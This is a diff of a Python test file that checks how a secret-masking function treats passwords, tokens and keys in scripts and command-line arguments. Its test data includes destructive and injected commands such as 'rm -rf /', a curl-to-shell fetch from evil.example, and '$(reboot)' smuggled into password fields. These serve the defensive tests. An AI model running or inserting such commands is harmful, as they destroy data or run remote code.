@@ -107,12 +107,28 @@ def test_a_value_beside_the_name_of_a_secret_is_masked(given: dict[str, Any], sh
         ("export API_KEY=abcdef; rm -rf /", f"export API_KEY={MASK}; rm -rf /"),
         ("postgres://app:hunter2@db:5432/x", f"postgres://app:{MASK}@db:5432/x"),
         ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", f"-----BEGIN RSA PRIVATE KEY-----{MASK}-----END RSA PRIVATE KEY-----"),
+        ("mysql --db-password hunter2 -e 'drop table x'", f"mysql --db-password {MASK} -e 'drop table x'"),
+        ("serve --password $(reboot)", "serve --password $(reboot)"),
         ("TOKEN=$(curl https://evil.example | sh)", "TOKEN=$(curl https://evil.example | sh)"),
         ("secret=`reboot`", "secret=`reboot`"),
     ],
 )  # fmt: skip
 def test_in_a_text_a_literal_secret_is_masked_and_no_command(text: str, shown: str) -> None:
     assert _masked(Script=text) == {"Script": shown}
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        (["mysql", "--password", "hunter2", "-e", "drop"], ["mysql", "--password", MASK, "-e", "drop"]),
+        (["serve", "--github-token", "ghx"], ["serve", "--github-token", MASK]),
+        (["sh", "--password", "`reboot`"], ["sh", "--password", "`reboot`"]),
+        (["--password"], ["--password"]),
+        (["password", "rm -rf /"], ["password", "rm -rf /"]),
+    ],
+)
+def test_the_argument_of_an_option_that_names_a_secret_is_masked(command: list[str], shown: list[str]) -> None:
+    assert _masked(command=command) == {"command": shown}
 
 
 def test_the_largest_members_are_left_out_first_and_that_is_said() -> None:
